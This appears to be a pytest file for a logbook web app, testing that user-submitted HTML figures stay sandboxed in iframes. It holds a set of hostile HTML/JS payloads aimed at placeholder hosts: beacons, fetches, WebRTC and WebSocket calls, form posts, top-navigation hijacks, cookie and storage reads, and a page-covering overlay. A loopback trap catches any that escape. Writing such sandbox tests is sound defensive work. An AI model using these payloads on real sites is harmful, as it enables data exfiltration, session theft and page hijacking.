"""A figure full of attacks, in a real browser: it runs nowhere but in its box, and reaches nothing from there."""

import json
import socket
import threading
import time
from collections.abc import Generator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from multiprocessing import get_context
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser

from tests.browser import MISSING, browsing, chromium
from tests.web.challenge import Served, founded, without_caps, zipped
from tests.web.live import live
from tests.web.visiting import SETTLED_S, load, visit

ASIDE: Final = ".trackio/logbook/pages/attacks/page.md"
RTC: Final = (
    "const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'},{urls:'turn:HOST?transport=tcp',username:'a',"
    "credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));"
)
LOADS: Final = (
    "<link rel=stylesheet href=BASE/css><link rel=prefetch href=BASE/prefetch><link rel=preload as=image href=BASE/pl>"
    "<link rel=modulepreload href=BASE/mp.js><link rel=preconnect href=BASE><link rel=icon href=BASE/icon>"
    '<style>@import "BASE/import";body{background:url(BASE/bg)}@font-face{font-family:z;src:url(BASE/font)}'
    "p{font-family:z}</style><p>x<script src=BASE/s.js></script><img src=BASE/i><video src=BASE/v poster=BASE/p>"
    "</video><audio src=BASE/a autoplay></audio><object data=BASE/o></object><embed src=BASE/e><iframe src=BASE/f>"
    "</iframe><iframe srcdoc='<img src=BASE/sd>'></iframe><svg><image href=BASE/si /></svg>"
    "<input type=image src=BASE/ii>"
    "<script type=speculationrules>{'prefetch':[{'source':'list','urls':['BASE/sr'],'eagerness':'immediate'}]}</script>"
    "<script>for(const f of [()=>fetch('BASE/fetch',{mode:'no-cors'}),()=>navigator.sendBeacon('BASE/beacon','x'),"
    "()=>new WebSocket('ws://HOST/ws'),()=>new EventSource('BASE/es'),()=>{new Image().src='BASE/img'},"
    "()=>new FontFace('f','url(BASE/ff)').load(),()=>import('BASE/m.js'),()=>new Worker('BASE/w.js'),"
    "()=>new Worker(URL.createObjectURL(new Blob([\"fetch('BASE/bw')\"]))),()=>new WebTransport('https://HOST/wt').ready,"
    "()=>fetch('BASE/keep',{keepalive:true}),()=>{const x=new XMLHttpRequest();x.open('GET','BASE/x');x.send()}])"
    "{try{Promise.resolve(f()).catch(()=>0)}catch(e){}}</script>"
)
INSIDE: Final = (
    "<script>window.outcomes={};const t=(n,f)=>{try{outcomes[n]=String(f())}catch(e){outcomes[n]=e.name}};"
    "t('origin',()=>self.origin);t('cookie',()=>document.cookie);t('storage',()=>localStorage.length);"
    "t('indexed',()=>indexedDB.open('x'));t('parent',()=>parent.document.title);t('top',()=>top.location.href);"
    "t('popup',()=>window.open('BASE/open'));t('dialog',()=>confirm('x'))</script>"
)
ATTACKS: Final[Mapping[str, str]] = {
    "inside": INSIDE,
    "loads": LOADS,
    "webrtc": f"<script>{RTC}</script>",
    "top": "<a id=a href=BASE/a target=_top>x</a><a id=b href=BASE/b target=_blank ping=BASE/ping>x</a>"
    "<script>for(const f of [()=>{top.location='BASE/top'},()=>{parent.location.href='BASE/parent'},"
    "()=>window.open('BASE/o','_top'),()=>a.click(),()=>b.click()]){try{f()}catch(e){}}</script>",
    "itself": "<script>location='BASE/self?secret'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=BASE/refresh'>",
    "own page": "<script>location='/papers'</script>",
    "blob": "<script>location=URL.createObjectURL(new Blob(['<img src=BASE/blob>'],{type:'text/html'}))</script>",
    "form": "<form id=f action=BASE/form method=post><input name=x value=y></form><script>f.submit()</script>",
    "cover": "<style>html,body,div{position:fixed;inset:-9999px;z-index:2147483647;background:red}</style><div>x</div>",
}


FATAL: Final = "webrtc in a frame"
ALL: Final = {**ATTACKS, FATAL: f'<iframe srcdoc="<script>{RTC}</script>"></iframe>'}
"""A browser may rather end the process of a tab than let that one connect, which not every driver survives."""


@dataclass
class Trap:
    """A loopback port that counts who comes, by TCP and UDP."""

    heard: list[bytes] = field(default_factory=list)
    port: int = 0

    @contextmanager
    def set(self) -> Generator["Trap"]:
        with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            self.port = tcp.getsockname()[1]
            udp.bind(("127.0.0.1", self.port))
            ends = threading.Event()
            threads = [threading.Thread(target=self._count, args=(one, ends)) for one in (tcp, udp)]
            for thread in threads:
                thread.start()
            yield self
            ends.set()
            for thread in threads:
                thread.join()

    def _count(self, one: socket.socket, ends: threading.Event) -> None:
        one.settimeout(0.1)
        while not ends.is_set():
            try:
                if one.type == socket.SOCK_DGRAM:
                    self.heard.append(one.recv(100))
                else:
                    one.accept()[0].close()
                    self.heard.append(b"tcp")
            except TimeoutError:
                continue

    def baited(self, html: str) -> str:
        """An attack that is aimed at this port."""
        return html.replace("BASE", f"http://127.0.0.1:{self.port}").replace("HOST", f"127.0.0.1:{self.port}")


@pytest.fixture(scope="module")
def browser() -> Generator[Browser]:
    with browsing() as made:
        yield made


@pytest.fixture(scope="module")
def trap() -> Generator[Trap]:
    with Trap().set() as made:
        yield made


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Generator[str]:
    """The address of the page of a logbook whose figures are the attacks."""
    made = Served(founded(tmp_path_factory.mktemp("figures") / "challenge", change=without_caps))
    made.add("mallory")
    cells = "".join(_cell(at, title, trap.baited(html)) for at, (title, html) in enumerate(ALL.items(), 1))
    archive = zipped("amber/demo-batch", {ASIDE: f"# Attacks\n\n{cells}".encode()})
    sent = made.as_("mallory").post("/api/v1/entries", content=archive, headers={"Content-Type": "application/zip"})
    entry = sent.json()["data"]["entry"]["id"]
    made.judge_all()
    pages = made.client.get(f"/logbooks/{entry}.json").json()["data"]["pages"]
    with live(made) as address:
        yield address + next(page["where"] for page in pages if page["file"] == ASIDE)
    made.installation.close()


def numbered(name: str) -> int:
    """The number of the figure that is an attack."""
    return list(ALL).index(name) + 1


def _cell(number: int, title: str, html: str) -> str:
    told = json.dumps({"type": "figure", "id": f"cell_{number:012d}", "title": title})
    return f"---\n<!-- trackio-cell\n{told}\n-->\n````html\n{html}\n````\n\n"


def test_the_trap_hears_what_is_not_kept_in_a_box(browser: Browser, trap: Trap) -> None:
    page = browser.new_page()
    page.set_content(trap.baited(f"{LOADS}<script>{RTC}</script>"))
    deadline = time.monotonic() + 10
    while not (b"tcp" in trap.heard and any(len(one) > 3 for one in trap.heard)) and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    page.close()
    assert b"tcp" in trap.heard
    assert any(len(one) > 3 for one in trap.heard)


def test_nothing_leaves_the_box(browser: Browser, trap: Trap, attacked: str) -> None:
    context = browser.new_context()
    context.add_cookies([{"name": "session", "value": "secret", "url": attacked}])
    trap.heard.clear()
    tabs = {name: load(context, attacked, number) for number, name in enumerate(ATTACKS, 1)}
    time.sleep(SETTLED_S)
    where = {name: tab.evaluate("location.href") for name, tab in tabs.items()}
    assert trap.heard == []
    assert where == dict.fromkeys(ATTACKS, attacked)
    assert len(context.pages) == len(ATTACKS)
    context.close()


def test_not_even_a_frame_within_the_box_reaches_out(trap: Trap, attacked: str, tmp_path: Path) -> None:
    if chromium() is None:
        pytest.skip(MISSING)
    trap.heard.clear()
    loaded = tmp_path / "loaded"
    reader = get_context("spawn").Process(target=visit, args=(attacked, numbered(FATAL), loaded))
    reader.start()
    reader.join(60)
    assert reader.exitcode is not None
    assert loaded.exists()
    assert trap.heard == []


def test_a_figure_has_no_part_in_the_site_around_it(browser: Browser, attacked: str) -> None:
    context = browser.new_context()
    context.add_cookies([{"name": "session", "value": "secret", "url": attacked}])
    page = load(context, attacked, 1)
    frame = page.frame(name="figure-1")
    assert frame is not None
    frame.wait_for_function("window.outcomes && window.outcomes.dialog")
    outcomes = frame.evaluate("window.outcomes")
    denied = dict.fromkeys(("cookie", "storage", "indexed", "parent", "top"), "SecurityError")
    assert outcomes == {"origin": "null", **denied, "popup": "null", "dialog": "false"}
    context.close()


def test_a_figure_stays_within_its_box_that_says_whose_it_is(browser: Browser, attacked: str) -> None:
    context = browser.new_context()
    number = numbered("cover")
    page = load(context, attacked, number)
    page.wait_for_function(f"window.frames['figure-{number}'] !== undefined")
    box = page.locator("details.figure-slot").nth(number - 1)
    frame = box.locator("iframe").bounding_box()
    assert frame is not None
    assert frame["height"] < 500
    assert "not checked" in box.inner_text()
    assert page.evaluate("document.elementFromPoint(20, 20).closest('iframe')") is None
    context.close()


def test_before_a_reader_asks_nothing_of_a_figure_is_loaded(browser: Browser, attacked: str) -> None:
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(attacked)
    assert not [url for url in asked if "/figures/" in url]
    page.close()


def test_a_figure_is_never_a_page_of_its_own(browser: Browser, attacked: str) -> None:
    page = browser.new_page()
    answer = page.goto(attacked.rpartition("/pages/")[0] + "/figures/1")
    assert answer is not None
    assert answer.status == 403
    assert "within its page" in page.inner_text("main")
    page.close()
